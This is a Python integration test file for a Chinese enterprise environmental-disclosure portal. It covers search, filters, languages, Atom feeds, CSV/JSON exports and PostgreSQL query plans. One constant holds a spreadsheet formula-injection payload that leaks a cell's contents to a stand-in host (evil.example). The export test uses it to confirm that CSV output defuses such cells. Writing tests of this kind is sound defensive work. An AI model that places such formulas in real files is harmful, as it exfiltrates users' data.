"""Search, filters, languages, feeds and exports of the public site on real PostgreSQL."""

import csv
import io
import json
from collections.abc import Awaitable, Callable
from datetime import UTC, date, datetime, timedelta
from typing import Any
from uuid import uuid4
from xml.etree import ElementTree

import pytest
from portal_testing import (
    NAME,
    Start,
    client,
    document_published,
    envelope,
    explanation_published,
    feed,
    published,
    registered,
    snapshot,
    status_changed,
)
from sqlalchemy import text
from sqlalchemy.dialects import postgresql
from sqlalchemy.sql.elements import ClauseElement
from sqlmodel.ext.asyncio.session import AsyncSession

from bluemap_portal.clock import china_date, china_today
from bluemap_portal.enterprises.repository import EnterpriseRepository
from bluemap_shared.db import create_engine
from bluemap_shared.migrations import upgrade_to_head
from bluemap_shared.testing import fill_and_settle

pytestmark = pytest.mark.integration

ATOM = {"a": "http://www.w3.org/2005/Atom"}
DOCS = "https://docs.example.org/api/documents"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


def companies() -> list[Any]:
    """Five enterprises: three in Xi'an (6101), one in Weinan (6105), one in Beijing."""
    return [
        snapshot(uuid4(), uscc="91610000220522613X"),
        snapshot(uuid4(), uscc="91610100000000001A", name="西安兴庆化工有限公司", name_en=None),
        snapshot(uuid4(), uscc="91610100000000002B", name="西安永安电镀厂", name_en=None, region_code="610113"),
        snapshot(uuid4(), uscc="91610500000000003C", name="渭南兴庆水泥有限公司", name_en=None, region_code="610502"),
        snapshot(uuid4(), uscc="91110000000000004D", name="北京兴庆科技有限公司", name_en=None, region_code="110105"),
    ]


async def test_search_by_name_uscc_and_region_with_pages(start: Start) -> None:
    found = companies()
    async with start(page_size=2) as svc:
        await feed(svc, *(envelope(registered(c)) for c in found), envelope(published(found[0])))
        async with client(svc.site) as site:
            xingqing = (await site.get("/search", params={"q": "兴庆"})).text
            page2 = (await site.get("/search", params={"q": "兴庆", "page": 2})).text
            xian = (await site.get("/search", params={"region": "6101"})).text
            xian_long = (await site.get("/search", params={"region": "610100", "q": "西安"})).text
            shaanxi = (await site.get("/search", params={"region": "61"})).text
            by_uscc = (await site.get("/search", params={"q": "91610500000000003c"})).text
            bad_region = await site.get("/search", params={"region": "xian"})
            home = (await site.get("/")).text
        async with client(svc.app) as api:
            listed = (await api.get("/v1/enterprises", params={"region": "6105"})).json()
            bad = await api.get("/v1/enterprises", params={"region": "61x"})

    assert "共找到 4 家企业" in xingqing  # every name with 兴庆: Xi'an, Weinan, Beijing
    assert 'aria-label="第 2 页"' in xingqing
    assert 'href="/search?q=%E5%85%B4%E5%BA%86&amp;page=2"' in xingqing
    assert 'aria-current="page"' in page2
    assert "共找到 3 家企业" in xian
    assert "渭南兴庆水泥有限公司" not in xian
    assert "北京兴庆科技有限公司" not in xian
    assert "共找到 2 家企业" in xian_long
    assert "共找到 4 家企业" in shaanxi
    assert "渭南兴庆水泥有限公司" in by_uscc
    assert "共找到 1 家企业" in by_uscc
    assert bad_region.status_code == 400
    # The region select offers provinces and their cities that have enterprises.
    assert '<optgroup label="陕西省">' in home
    assert '<option value="6101">西安市</option>' in home
    assert '<option value="6105">渭南市</option>' in home
    assert '<optgroup label="北京市">' in home
    assert "陕西省 西安市" in home
    assert [e["uscc"] for e in listed] == ["91610500000000003C"]
    assert bad.status_code == 422
    assert bad.headers["content-type"] == "application/problem+json"


async def test_search_counts_as_far_as_its_page_links_go(start: Start) -> None:
    found = companies()
    async with start(page_size=1, search_count_limit=3) as svc:
        await feed(svc, *(envelope(registered(c)) for c in found))
        async with client(svc.site) as site:
            first = (await site.get("/search", params={"q": "兴庆"})).text
            third = (await site.get("/search", params={"q": "兴庆", "page": 3})).text
            few = (await site.get("/search", params={"q": "西安"})).text
            english = (await site.get("/search", params={"q": "兴庆", "lang": "en"})).text

    # Four names hold 兴庆; page 1 links pages 1-3 and counts no further.
    assert "找到超过 3 家企业" in first
    assert "企业列表，第 1 页，共 3 页以上" in first
    assert 'aria-label="第 3 页"' in first
    assert 'aria-label="第 4 页"' not in first
    assert 'rel="next"' in first
    assert "More than 3 enterprises found" in english
    # Page 3 links pages up to 5, so it counts them all.
    assert "共找到 4 家企业" in third
    assert "企业列表，第 3 页，共 4 页" in third
    assert 'aria-label="第 4 页"' in third
    assert "共找到 2 家企业" in few
    assert "以上" not in few


async def test_language_from_query_cookie_and_accept_language(start: Start) -> None:
    async with start() as svc, client(svc.site) as site:
        browser_en = await site.get("/", headers={"accept-language": "en-GB,en;q=0.9,zh;q=0.5"})
        assert '<html lang="en">' in browser_en.text
        assert "set-cookie" not in browser_en.headers  # only an explicit choice is remembered
        assert "Accept-Language" in browser_en.headers["vary"]
        chinese = await site.get("/")
        assert '<html lang="zh-Hans">' in chinese.text
        assert 'href="/?lang=en"' in chinese.text  # the visible switch
        assert ">English</a>" in chinese.text

        chosen = await site.get("/categories", params={"lang": "en"})
        assert "lang=en" in chosen.headers["set-cookie"]
        assert "HttpOnly" in chosen.headers["set-cookie"]
        assert "Browse by category" in chosen.text
        sticky = await site.get("/verify")
        assert '<html lang="en">' in sticky.text
        assert 'href="/verify?lang=zh"' in sticky.text
        back = await site.get("/verify", params={"lang": "zh"}, headers={"accept-language": "en"})
        assert '<html lang="zh-Hans">' in back.text
        # Links keep an explicit Chinese choice, for visitors without cookies.
        assert 'href="/categories?lang=zh"' in back.text
        assert '<html lang="zh-Hans">' in (await site.get("/", headers={"accept-language": "en"})).text

        css = await site.get("/static/site.css")
        assert css.status_code == 200
        assert css.headers["content-type"].startswith("text/css")
        assert "style-src 'self'" in chinese.headers["content-security-policy"]
        assert 'href="/static/site.css?v=' in chinese.text
        assert 'href="#main"' in chinese.text
        assert '<main id="main"' in chinese.text


async def test_category_filters_by_region_year_and_status(start: Start) -> None:
    found = companies()
    today = china_today()
    overdue = published(found[0], year=2023, explanation_due_on=today - timedelta(days=1), source_title="逾期记录")
    awaiting = published(found[2], year=2024, explanation_due_on=today + timedelta(days=9), source_title="待说明记录")
    explained = published(found[3], year=2024, explanation_due_on=today - timedelta(days=30), source_title="已说明记录")
    elsewhere = published(found[4], year=2024, source_title="北京记录", explainable=False, explanation_due_on=None)
    now = datetime.now(UTC)
    long_ago = now - timedelta(days=400)
    async with start(documents_public_base_url=DOCS) as svc:
        await feed(
            svc,
            *(envelope(r) for r in (overdue, awaiting, explained, elsewhere)),
            envelope(status_changed(explained.record_id, found[3].enterprise_id, "explained", now)),
            envelope(explanation_published(explained.record_id, found[3].enterprise_id, published_at=now)),
            envelope(document_published(found[4].enterprise_id, published_at=long_ago)),
        )
        async with client(svc.site) as site:

            async def titles(**params: Any) -> str:
                page = await site.get("/categories/environmental_supervision", params=params)
                assert page.status_code == 200, params
                return page.text

            xian = await titles(region="6101")
            year = await titles(year="2024")
            is_overdue = await titles(status="overdue")
            is_awaiting = await titles(status="awaiting_explanation")
            is_explained = await titles(status="explained", region="61")
            everything = await titles(region="", year="", status="")
            bad_status = await site.get("/categories/environmental_supervision", params={"status": "bogus"})
            bad_year = await site.get("/categories/environmental_supervision", params={"year": "20x4"})
            feedback_xian = (await site.get("/categories/enterprise_feedback", params={"region": "6105"})).text
            feedback_beijing = (await site.get("/categories/enterprise_feedback", params={"region": "11"})).text
            old_feedback = (
                await site.get("/categories/enterprise_feedback", params={"year": str(china_date(long_ago).year)})
            ).text
        async with client(svc.app) as api:
            api_page = (await api.get("/v1/categories/environmental_supervision", params={"status": "overdue"})).json()

    assert "逾期记录" in xian
    assert "待说明记录" in xian
    assert "已说明记录" not in xian
    assert "北京记录" not in xian
    assert "逾期记录" not in year
    assert "共 3 条" in year
    assert "逾期记录" in is_overdue
    assert "待说明记录" not in is_overdue
    assert "待说明记录" in is_awaiting
    assert "逾期记录" not in is_awaiting
    assert "已说明记录" in is_explained
    assert "共 1 条" in is_explained
    assert "共 4 条" in everything
    assert '<option value="2024">2024</option>' in everything
    assert '<option value="overdue" selected>逾期未说明</option>' in is_overdue
    assert bad_status.status_code == 400
    assert bad_year.status_code == 400
    assert "喷漆房废气" in feedback_xian  # the explanation of the Weinan enterprise
    assert "整改方案.pdf" not in feedback_xian
    assert "整改方案.pdf" in feedback_beijing
    assert "喷漆房废气" not in feedback_beijing
    assert "整改方案.pdf" in old_feedback
    assert "喷漆房废气" not in old_feedback
    assert [r["source_title"] for r in api_page["records"]] == ["逾期记录"]
    assert api_page["total"] == 1


async def test_disclosed_documents_list_filters_and_previews(start: Start) -> None:
    found = companies()
    record = published(found[0], source_title="关于对强化监督定点帮扶发现问题进行督办的函(西安)")
    now = datetime.now(UTC)
    permit = document_published(
        found[0].enterprise_id, category="discharge_permit", filename="排污许可证.pdf", record_ids=[record.record_id]
    )
    plan = document_published(
        found[4].enterprise_id,
        category="corrective_action_plan",
        filename="整改方案.pdf",
        published_at=now + timedelta(minutes=1),
    )
    old = document_published(
        found[3].enterprise_id,
        filename="2019检测报告.pdf",
        category="testing_report",
        published_at=datetime(2019, 12, 31, 17, 0, tzinfo=UTC),  # 2020-01-01 01:00 in China
    )
    async with start(documents_public_base_url=DOCS) as svc:
        await feed(
            svc,
            *(envelope(registered(c)) for c in found),
            envelope(record),
            *(envelope(d) for d in (permit, plan, old)),
        )
        async with client(svc.site) as site:
            everything = (await site.get("/documents")).text
            permits = (await site.get("/documents", params={"type": "discharge_permit"})).text
            beijing = (await site.get("/documents", params={"region": "11"})).text
            of_2020 = (await site.get("/documents", params={"year": "2020"})).text
            english = (await site.get("/documents", params={"lang": "en"})).text
        async with client(svc.app) as api:
            listed = (await api.get("/v1/documents", params={"type": "discharge_permit"})).json()

    assert "共 3 份文件" in everything
    assert everything.index("整改方案.pdf") < everything.index("排污许可证.pdf") < everything.index("2019检测报告.pdf")
    preview = f'href="{DOCS}/v1/public/documents/{permit.document_id}/content?disposition=inline"'
    assert preview in everything
    assert "在线预览" in everything
    assert f'href="/enterprises/{found[0].enterprise_id}#record-{record.record_id}"' in everything
    assert "排污许可证.pdf" in permits
    assert "整改方案.pdf" not in permits
    assert "整改方案.pdf" in beijing
    assert "排污许可证.pdf" not in beijing
    assert "2019检测报告.pdf" in of_2020
    assert "整改方案.pdf" not in of_2020
    assert "List of disclosed documents" in english
    assert "Preview" in english
    assert listed["total"] == 1
    assert listed["documents"][0]["document"]["preview_url"].endswith("?disposition=inline")
    assert listed["documents"][0]["records"][0]["source_title"] == record.source_title
    assert listed["documents"][0]["enterprise_name"] == NAME


async def test_atom_feeds_of_an_enterprise_and_a_category(start: Start) -> None:
    found = companies()
    company = found[0]
    enterprise_id = company.enterprise_id
    record = published(company, source_title="<b>督办函</b> & 整改")
    explanation = explanation_published(record.record_id, enterprise_id, violation="违规 <script>x</script>")
    document = document_published(enterprise_id, filename="整改方案.pdf", record_ids=[record.record_id])
    async with start(documents_public_base_url=DOCS) as svc:
        await feed(svc, envelope(registered(company)), envelope(record), envelope(explanation), envelope(document))
        async with client(svc.site) as site:
            page = (await site.get(f"/enterprises/{enterprise_id}")).text
            first = await site.get(f"/enterprises/{enterprise_id}/feed.atom")
            again = await site.get(f"/enterprises/{enterprise_id}/feed.atom")
            english = await site.get(f"/enterprises/{enterprise_id}/feed.atom", params={"lang": "en"})
            category = await site.get("/categories/environmental_supervision/feed.atom")
            feedback = await site.get("/categories/enterprise_feedback/feed.atom")
            empty = await site.get("/categories/accident/feed.atom")
            missing = await site.get(f"/enterprises/{uuid4()}/feed.atom")
            unknown = await site.get("/categories/nope/feed.atom")

    assert '<link rel="alternate" type="application/atom+xml"' in page
    assert f'href="/enterprises/{enterprise_id}/feed.atom"' in page
    assert first.headers["content-type"] == "application/atom+xml; charset=utf-8"
    assert first.content == again.content
    root = ElementTree.fromstring(first.content)
    assert (
        root.findtext("a:id", namespaces=ATOM)
        == f"tag:bluemap.example.org,2025:ipe/feeds/enterprises/{enterprise_id}/zh"
    )
    self_link = root.find("a:link[@rel='self']", ATOM)
    assert self_link is not None
    assert self_link.get("href") == f"http://portal.example.org/enterprises/{enterprise_id}/feed.atom"
    entries = {e.findtext("a:id", namespaces=ATOM): e for e in root.findall("a:entry", ATOM)}
    assert set(entries) == {
        f"tag:bluemap.example.org,2025:ipe/records/{record.record_id}",
        f"tag:bluemap.example.org,2025:ipe/explanations/{explanation.explanation_id}",
        f"tag:bluemap.example.org,2025:ipe/documents/{document.document_id}",
    }
    record_entry = entries[f"tag:bluemap.example.org,2025:ipe/records/{record.record_id}"]
    assert record_entry.findtext("a:title", namespaces=ATOM) == "环境监管记录 (2020): <b>督办函</b> & 整改"
    assert "逾期未说明" in (record_entry.findtext("a:content", namespaces=ATOM) or "")
    assert b"<b>" not in first.content  # escaped, not markup
    assert "违规 <script>x</script>" in (
        entries[f"tag:bluemap.example.org,2025:ipe/explanations/{explanation.explanation_id}"].findtext(
            "a:content", namespaces=ATOM
        )
        or ""
    )
    enclosure = entries[f"tag:bluemap.example.org,2025:ipe/documents/{document.document_id}"].find(
        "a:link[@rel='enclosure']", ATOM
    )
    assert enclosure is not None
    assert enclosure.get("href") == f"{DOCS}/v1/public/documents/{document.document_id}/content"
    english_root = ElementTree.fromstring(english.content)
    assert english_root.get("{http://www.w3.org/XML/1998/namespace}lang") == "en"
    assert "Environmental Supervision Records (2020)" in english.text
    for answer in (category, feedback, empty):
        assert answer.status_code == 200
        ElementTree.fromstring(answer.content)
    assert f"ipe/records/{record.record_id}" in category.text
    assert NAME in category.text
    assert f"ipe/explanations/{explanation.explanation_id}" in feedback.text
    assert ElementTree.fromstring(empty.content).findall("a:entry", ATOM) == []
    assert missing.status_code == 404
    assert unknown.status_code == 404


async def test_csv_and_json_exports_stream_every_match(start: Start) -> None:
    found = companies()
    hostile = published(found[0], source_title=HYPERLINK, issuing_authority="+cmd", summary="@x")
    other = published(found[1], record_type="accident", explanation_due_on=None, explainable=False)
    async with start(export_batch_size=2) as svc:
        await feed(svc, *(envelope(registered(c)) for c in found), envelope(hostile), envelope(other))
        async with client(svc.site) as site:
            exported = await site.get("/search.csv", params={"q": "兴庆"})
            english = await site.get("/search.csv", params={"region": "6101", "lang": "en"})
            as_json = await site.get("/search.json", params={"region": "61"})
            everything = await site.get("/search.json")
            refused = await site.get("/search.csv", params={"region": "61x"})

    assert exported.status_code == 200
    assert exported.headers["content-type"] == "text/csv; charset=utf-8"
    assert "attachment" in exported.headers["content-disposition"]
    assert exported.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["统一社会信用代码", "企业名称", "英文名称"]
    assert len(rows) == 1 + 4  # 4 enterprises with 兴庆, one row each (one record, three without)
    [row] = [r for r in rows if r[0] == found[0].uscc]
    assert row[7] == "'" + HYPERLINK
    assert row[8] == "'+cmd"
    assert row[4] == "陕西省 西安市"
    assert row[5] == "环境监管记录"
    assert row[10] == "逾期未说明"
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
    english_rows = list(csv.reader(io.StringIO(english.content.decode("utf-8-sig"))))
    assert english_rows[0][0] == "Unified Social Credit Code"
    assert {r[0] for r in english_rows[1:]} == {c.uscc for c in found[:3]}

    body = json.loads(as_json.content)
    assert body["query"] == {"q": None, "region": "61"}
    assert body["total"] == 4
    assert [e["name"] for e in body["enterprises"]] == sorted(c.name for c in found[:4])
    [first] = [e for e in body["enterprises"] if e["id"] == str(found[0].enterprise_id)]
    assert first["records"][0]["source_title"] == HYPERLINK  # JSON carries the text as it is
    assert first["records"][0]["status"] == "overdue"
    assert first["url"] == f"http://portal.example.org/enterprises/{found[0].enterprise_id}"
    assert len(json.loads(everything.content)["enterprises"]) == 5
    assert refused.status_code == 422
    assert refused.headers["content-type"] == "application/problem+json"


async def test_enterprise_page_names_its_region_and_counts(start: Start) -> None:
    company = snapshot(uuid4())
    record = published(company, issued_on=date(2021, 6, 1))
    async with start() as svc:
        await feed(svc, envelope(registered(company)), envelope(record))
        async with client(svc.site) as site:
            html = (await site.get(f"/enterprises/{company.enterprise_id}")).text
            english = (await site.get(f"/enterprises/{company.enterprise_id}", params={"lang": "en"})).text
    assert "陕西省 西安市" in html
    assert "Xi&#39;an, Shaanxi" in english
    assert "2021年6月1日" in html
    assert "Jun 1, 2021" in english
    assert 'class="visually-hidden">陕西永安兴庆门业有限公司 的环境监管记录</caption>' in html


@pytest.fixture(scope="module")
async def directory(create_database: Callable[[str], Awaitable[str]]) -> str:
    """A portal database of its own (other tests' names would sway the statistics) with 50,000 enterprises."""
    url = await create_database("portal_directory")
    await upgrade_to_head("bluemap_portal", url)
    await fill_and_settle(
        url,
        """
        INSERT INTO portal_enterprises (id, tenant_id, uscc, name, name_en, region_code, updated_at)
        SELECT gen_random_uuid(), 'ipe', lpad(i::text, 18, '0'),
               (ARRAY['西安','咸阳','苏州','深圳','青岛'])[1 + i % 5] || md5(i::text) || '有限公司',
               'Company ' || md5((i * 7)::text), '610100', now()
        FROM generate_series(1, 50000) AS i
        """,
        "portal_enterprises",
    )
    return url


async def test_the_search_looks_names_up_by_index_and_walks_them_in_order_when_most_match(directory: str) -> None:
    """Chinese words (one or two characters too), English words and USCCs each use an index; none reads every name."""
    engine = create_engine(directory)
    plans = {}
    try:
        async with AsyncSession(engine) as session:
            repository = EnterpriseRepository(session)
            for words in ("熊猫", "永安兴庆门业", "company 5d41402", "000000000000012345", "西安", "熊"):
                query = repository.search_query("ipe", text=words, region=None, offset=0, limit=20)
                plans[words] = await _plan(session, query)
    finally:
        await engine.dispose()
    for words in ("熊猫", "永安兴庆门业"):
        assert "ix_portal_enterprises_name_bigrams" in _indexes(plans[words]), (words, plans[words])
    assert "ix_portal_enterprises_name_chars" in _indexes(plans["熊"]), plans["熊"]
    assert "ix_portal_enterprises_name_en_trgm" in _indexes(plans["company 5d41402"]), plans["company 5d41402"]
    assert "ix_portal_enterprises_tenant_uscc" in _indexes(plans["000000000000012345"]), plans["000000000000012345"]
    # A fifth of the names hold 西安: walking them in name order fills a page sooner than looking them up.
    assert "ix_portal_enterprises_tenant_name" in _indexes(plans["西安"]), plans["西安"]
    for words, plan in plans.items():
        assert "Seq Scan" not in json.dumps(plan), (words, plan)


async def test_counting_a_common_word_reads_only_the_rows_it_counts(directory: str) -> None:
    """A bounded count of 西安 (10,000 names) reads about as many rows as it counts, each tested by LIKE alone."""
    engine = create_engine(directory)
    try:
        async with AsyncSession(engine) as session:
            repository = EnterpriseRepository(session)
            exact = await repository.count("ipe", text="西安")
            bounded = await repository.count("ipe", text="西安", at_most=1001)
            plan = await _plan(session, repository.count_query("ipe", text="西安", region=None, at_most=1001), run=True)
    finally:
        await engine.dispose()
    assert (exact, bounded) == (10_000, 1001)
    assert _heap_rows_read(plan) < 2000, plan
    # Name pairs are for finding rows; recomputed for each row found, they cost ~30 µs a name.
    assert "bluemap_name_bigrams" not in json.dumps(_filters(plan)), plan


async def _plan(session: AsyncSession, query: ClauseElement, *, run: bool = False) -> dict[str, Any]:
    """The query's plan with its words written in (as a custom plan), measured when run."""
    sql = str(query.compile(dialect=postgresql.dialect(), compile_kwargs={"literal_binds": True}))
    options = "ANALYZE, FORMAT JSON" if run else "FORMAT JSON"
    connection = await session.connection()
    explained = await connection.execute(text(f"EXPLAIN ({options}) " + sql.replace("%%", "%")))
    return dict(explained.scalar_one()[0]["Plan"])


def _heap_rows_read(node: dict[str, Any]) -> int:
    """Table rows the plan's scans returned or removed by their filters, over all loops (index entries not)."""
    own = 0
    if node["Node Type"] in ("Seq Scan", "Bitmap Heap Scan", "Index Scan"):
        own = (node.get("Actual Rows", 0) + node.get("Rows Removed by Filter", 0)) * node.get("Actual Loops", 1)
    return own + sum(_heap_rows_read(child) for child in node.get("Plans", []))


def _filters(node: dict[str, Any]) -> list[str]:
    """Every condition the plan tests row by row."""
    own = [node["Filter"]] if "Filter" in node else []
    return own + [f for child in node.get("Plans", []) for f in _filters(child)]


def _indexes(node: dict[str, Any]) -> set[str]:
    found = {node["Index Name"]} if "Index Name" in node else set()
    for child in node.get("Plans", []):
        found |= _indexes(child)
    return found
